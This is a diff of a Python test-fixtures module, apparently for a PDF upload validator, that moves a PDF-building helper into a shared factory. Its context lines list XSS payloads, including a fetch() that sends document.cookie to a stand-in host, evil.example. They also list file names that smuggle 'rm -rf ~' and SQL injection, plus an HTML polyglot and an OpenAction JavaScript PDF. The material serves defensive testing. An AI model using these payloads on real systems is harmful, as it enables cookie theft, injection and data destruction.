@@ -8,6 +8,8 @@ from __future__ import annotations
 
 import json
 
+from tests.factories import well_formed_pdf
+
 SCRIPT_PAYLOADS = ["alert(1)", "alert(document.cookie)", "fetch('//evil.example/'+document.cookie)"]
 SCRIPT_WRAPPERS = [
     "<script>{p}</script>", "\"><script>{p}</script>", "'><img src=x onerror={p}>", "<svg/onload={p}>",
@@ -82,22 +84,9 @@ FILE_NAMES = [
     "x.pdf.html", "\x07\x08\x1b.pdf", "%2e%2e%2fx.pdf", "x;rm -rf ~.pdf", "' OR 1=1 --.pdf",
 ]
 
-def _well_formed_pdf(*objects: bytes) -> bytes:
-    """A PDF with a correct cross-reference table: refused for what it does, not for how it is built."""
-    out, offsets = bytearray(b"%PDF-1.4\n"), []
-    for number, body in enumerate(objects, start=1):
-        offsets.append(len(out))
-        out += b"%d 0 obj" % number + body + b"endobj\n"
-    xref = len(out)
-    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
-    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
-    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
-    return bytes(out)
-
-
 PDFS: dict[str, bytes] = {
     "HTML polyglot": b"%PDF-1.4\n<html><body><script>alert(document.domain)</script></body></html>\n%%EOF\n",
-    "OpenAction JavaScript": _well_formed_pdf(
+    "OpenAction JavaScript": well_formed_pdf(
         b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
         b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>", b"<</S/JavaScript/JS(app.alert\\(1\\))>>"),
 }
